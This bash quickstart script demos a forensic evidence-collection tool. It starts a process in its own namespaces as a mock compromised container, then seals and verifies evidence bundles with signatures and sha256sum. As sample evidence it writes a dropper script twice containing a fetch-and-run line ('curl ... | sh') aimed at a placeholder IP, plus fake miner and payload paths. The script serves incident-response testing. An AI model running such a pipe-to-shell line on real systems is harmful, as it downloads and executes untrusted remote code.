#!/usr/bin/env bash
# End to end on a fresh machine, no container runtime needed (run as root):
#  1. a live collection: a process started in its own PID, network, mount and UTS namespaces stands in
#     for a compromised container; `forensic collect --pid` preserves it into a sealed bundle, which
#     `forensic verify` then checks;
#  2. the manual path: an evidence directory laid out the way the incident-response checklist does
#     (/tmp/evidence/<timestamp>/) is sealed, verified, and checked again with unzip and sha256sum.
set -euo pipefail
cd "$(dirname "$0")/.."
cargo build --release --quiet -p forensic
forensic=$PWD/target/release/forensic
work=$(mktemp -d "${TMPDIR:-/tmp}/forensic-quickstart.XXXXXX")
echo "working in $work"

"$forensic" keygen -o "$work/responder"

echo "== 1. live collection from a process in its own namespaces"
# The "container": sleep in a tiny root of its own (the binary and its libraries), with a dropped file.
rootfs=$work/victim-root
mkdir -p "$rootfs/bin" "$rootfs/proc" "$rootfs/tmp" "$rootfs/etc"
cp /bin/sleep "$rootfs/bin/sleep"
for lib in $(ldd /bin/sleep | grep -o '/[^ ]*'); do
  mkdir -p "$rootfs$(dirname "$lib")" && cp "$lib" "$rootfs$lib"
done
printf '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n' > "$rootfs/tmp/dropper.sh"
chmod 755 "$rootfs/tmp/dropper.sh"
echo 'root:x:0:0:root:/root:/bin/sh' > "$rootfs/etc/passwd"
unshare --fork --kill-child --pid --net --mount --uts --mount-proc --root="$rootfs" /bin/sleep 600 &
ns_parent=$!
trap 'kill -KILL "$ns_parent" 2> /dev/null || true' EXIT
target=
for _ in $(seq 50); do
  target=$(pgrep -P "$ns_parent" || true)
  [ -n "$target" ] && break
  sleep 0.1
done
"$forensic" collect --pid "$target" -o "$work/live.zip" --key "$work/responder.key" \
  --case DEMO-1 --examiner "$(id -un)" --evidence-number 1 --quiet
"$forensic" verify "$work/live.zip" --trust "$work/responder.pub" --quiet
kill -KILL "$ns_parent" 2> /dev/null || true
echo

echo "== 2. sealing a directory of hand-collected evidence"
ev=$work/evidence/$(date +%Y%m%d-%H%M%S)
mkdir -p "$ev/files"
# What the checklist's commands write by hand (captured outputs stand in for a live cluster).
cp ../shared/samples/crictl-inspect/bpfman-operator-containerd-kind.json "$ev/container-inspect.json" 2> /dev/null \
  || echo '{"status":{"id":"0123456789ab"}}' > "$ev/container-inspect.json"
printf 'Container ID: %s\n' "$(printf 'demo%.0s' 1 2 3 4 | sha256sum | cut -c1-64)" > "$ev/container-id.txt"
printf 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: web-7d9f\n  namespace: shop\n' > "$ev/pod-spec.yaml"
printf 'GET / 200\nGET /cgi-bin/x.sh 200\n' > "$ev/pod-logs.txt"
printf 'Name: web-7d9f\nNamespace: shop\n' > "$ev/pod-describe.txt"
printf '2m Normal Started pod/web-7d9f\n' > "$ev/events.txt"
cat /proc/self/net/tcp > "$ev/connections.txt"
ls -la /proc/self/fd/ > "$ev/open-files.txt" 2>&1 || true
printf '/tmp/.x/miner\n' > "$ev/tmp-files.txt"
printf '/dev/shm/payload.sh\n' > "$ev/shm-files.txt"
printf '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n' > "$ev/files/payload.sh"

"$forensic" seal "$ev" -o "$work/case.zip" --key "$work/responder.key" \
  --case DEMO-1 --examiner "$(id -un)" --evidence-number 2 --note "quickstart demo"
echo
"$forensic" verify "$work/case.zip" --trust "$work/responder.pub"
echo
echo "== the same checks with standard tools only (SPEC §14)"
unzip -tq "$work/case.zip"
mkdir "$work/copy" && unzip -q "$work/case.zip" -d "$work/copy"
(cd "$work/copy" && sha256sum -c --quiet SHA256SUMS && echo "sha256sum -c SHA256SUMS: all OK")
echo
echo "bundles: $work/live.zip $work/case.zip"
